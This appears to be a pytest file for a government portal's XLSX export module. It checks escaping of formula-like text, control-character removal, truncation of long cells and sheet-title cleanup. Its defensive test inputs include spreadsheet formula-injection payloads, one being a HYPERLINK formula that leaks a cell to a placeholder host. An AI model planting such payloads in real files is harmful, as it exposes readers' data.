"""The one XLSX writer: text stays text, nothing XML cannot carry reaches the file, a cut is marked."""

import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from portal.xlsx import BATAS_SEL, LEMBAR_TEKS_LENGKAP, TANDA_TERPOTONG, teks_ekspor, teks_terpotong, workbook_bytes


def _baca(sheets):
    data = workbook_bytes(sheets)
    return data, load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("teks", [
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")', "+1+2", "-2+3", "@SUM(A1:A2)", "=1+1", "#N/A", "\t=1",
])
def test_text_that_looks_like_a_formula_is_written_as_text(teks):
    data, workbook = _baca([("Lembar", ["Analisis"], [[teks]])])
    cell = workbook["Lembar"]["A2"]
    assert cell.value == teks
    assert cell.data_type == "s"
    assert cell.quotePrefix  # Excel's apostrophe: editing the cell does not turn it into a formula
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("kendali", ["\x0b", "\x1b", "\x00", "\x08", "\x1f", "\ufffe"])
def test_control_characters_are_removed_instead_of_breaking_the_file(kendali):
    _, workbook = _baca([(f"Lem{kendali}bar", [f"Ana{kendali}lisis"], [[f"baris satu{kendali}\nbaris dua\tkolom"]])])
    sheet = workbook["Lembar"]
    assert sheet["A1"].value == "Analisis"
    assert sheet["A2"].value == "baris satu\nbaris dua\tkolom"  # newline and tab are kept


def test_a_text_over_excels_limit_is_cut_marked_and_kept_whole_on_its_own_sheet():
    panjang = "".join(f"kalimat {i}. " for i in range(6000))  # ~70 000 characters
    assert len(panjang) > 2 * BATAS_SEL
    _, workbook = _baca([("Kinerja", ["Kode", "Analisis"], [["IKU-1", panjang], ["IKU-2", "pendek"]])])
    cell = workbook["Kinerja"]["B2"].value
    assert len(cell) == BATAS_SEL
    assert cell.endswith(TANDA_TERPOTONG) and teks_terpotong(cell)
    assert panjang.startswith(cell[: -len(TANDA_TERPOTONG)])
    assert workbook["Kinerja"]["B3"].value == "pendek"
    rows = list(workbook[LEMBAR_TEKS_LENGKAP].iter_rows(min_row=2, values_only=True))
    assert {(r[0], r[1], r[3]) for r in rows} == {("Kinerja", "B2", len(panjang))}
    assert [r[2] for r in rows] == [1, 2, 3]
    assert "".join(r[4] for r in rows) == panjang


def test_a_text_at_the_limit_is_not_cut():
    teks = "a" * BATAS_SEL
    _, workbook = _baca([("L", ["T"], [[teks]])])
    assert workbook["L"]["A2"].value == teks
    assert LEMBAR_TEKS_LENGKAP not in workbook.sheetnames
    assert not teks_terpotong(teks_ekspor(teks))


def test_numbers_stay_exact_numbers_and_sheet_titles_are_made_valid():
    _, workbook = _baca([("Renja 2026/2027: [T-C.33]? dan judul yang sangat panjang", ["Pagu"],
                          [[Decimal("1250000")], [Decimal("85.25")]])])
    sheet = workbook.worksheets[0]
    assert "/" not in sheet.title and len(sheet.title) <= 31
    assert sheet["A2"].value == 1250000 and sheet["A3"].value == 85.25


def test_no_module_but_the_writer_makes_workbooks_and_no_view_names_a_download_by_hand():
    """Every XLSX goes through portal.xlsx and every download name through portal.unduhan."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    sumber = [p for app in ("portal", "anggaran", "indikator", "renja", "lkip", "dasbor")
              for p in (root / app).rglob("*.py") if "migrations" not in p.parts]
    workbook = [p.relative_to(root).as_posix() for p in sumber if "import Workbook" in p.read_text()
                or "openpyxl.Workbook" in p.read_text()]
    assert workbook == ["portal/xlsx.py"]
    disposition = [p.relative_to(root).as_posix() for p in sumber
                   if 'Content-Disposition"] = f' in p.read_text() or "as_attachment=True" in p.read_text()]
    assert disposition == []
